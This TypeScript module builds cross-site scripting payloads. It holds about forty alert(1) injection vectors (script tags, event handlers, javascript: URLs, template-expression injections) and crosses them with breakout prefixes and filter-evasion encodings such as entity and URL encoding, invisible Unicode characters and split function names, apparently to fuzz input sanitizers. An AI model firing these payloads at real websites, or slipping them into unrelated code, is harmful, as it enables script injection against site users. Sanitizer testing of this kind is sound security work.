/** Texts that run a program where one is taken for markup, an address or a template; each calls `alert`. */
const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src=data:,alert(1)></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href=javascript:alert(1)>x</a>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<math><a href=javascript:alert(1)>x',
  '<form action=javascript:alert(1)>',
  '<button formaction=javascript:alert(1)>',
  '<meta http-equiv=refresh content=0;url=javascript:alert(1)>',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<style onload=alert(1)></style>',
  '<base href=javascript:alert(1)//>',
  '<template><img src=x onerror=alert(1)>',
  '<x style=animation-name:x onanimationend=alert(1)>',
  '<p onpointerenter=alert(1) style=inset:0>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '{{alert(1)}}$t(alert(1))',
  '<%= alert(1) %>',
  ');alert(1);//',
]

type Wrap = (vector: string) => string
const after =
  (before: string, behind = ''): Wrap =>
  (vector) =>
    `${before}${vector}${behind}`
const replaced =
  (from: RegExp, to: string): Wrap =>
  (vector) =>
    vector.replaceAll(from, to)
const eachAs =
  (write: (code: number) => string): Wrap =>
  (vector) =>
    [...vector].map((character) => write(character.codePointAt(0)!)).join('')

/** The places where a text may be taken for something else, and ways to write it past a filter. */
const CONTEXTS: readonly Wrap[] = [
  ...['', '">', "'>", '`>', '>', '"', "'", '`', '\\"', "\\'", '-->', ']]>', '*/', '//', '\n', '\t', ' '].map((before) =>
    after(before),
  ),
  ...['script', 'style', 'title', 'textarea', 'noscript', 'template', 'select', 'svg', 'xmp'].map((tag) =>
    after(`</${tag}>`),
  ),
  ...['"', "'", '`'].map((quote) => after(`${quote} onfocus=alert(1) autofocus x=${quote}`)),
  after('<!--', '-->'),
  after('<![CDATA[', ']]>'),
  after('\u202e'),
  after('\u200b'),
  after('\ufeff'),
  after('a', 'b'),
  replaced(/</g, '<\u0000'),
  replaced(/</g, '\uff1c'),
  replaced(/ /g, '/'),
  replaced(/ /g, '\n'),
  replaced(/ /g, '\t'),
  replaced(/alert/g, '\\u0061lert'),
  replaced(/alert/g, 'top["al"+"ert"]'),
  replaced(/\(1\)/g, '`1`'),
  replaced(/javascript:/g, 'jav\tascript:'),
  (vector) => vector.toUpperCase().replaceAll('ALERT', 'alert'),
  (vector) => [...vector].map((letter, place) => (place % 2 === 0 ? letter.toUpperCase() : letter)).join(''),
  encodeURIComponent,
  (vector) => encodeURIComponent(encodeURIComponent(vector)),
  eachAs((code) => `&#${code};`),
  eachAs((code) => `&#x${code.toString(16)};`),
]

/** The first `count` of every vector in every context; beyond those, the same with their number behind them. */
export function payloads(count: number): string[] {
  const all = CONTEXTS.flatMap((wrap) => VECTORS.map((vector) => wrap(vector)))
  return Array.from({ length: count }, (_, place) => {
    const payload = all[place % all.length]!
    return place < all.length ? payload : `${payload}${Math.floor(place / all.length)}`
  })
}
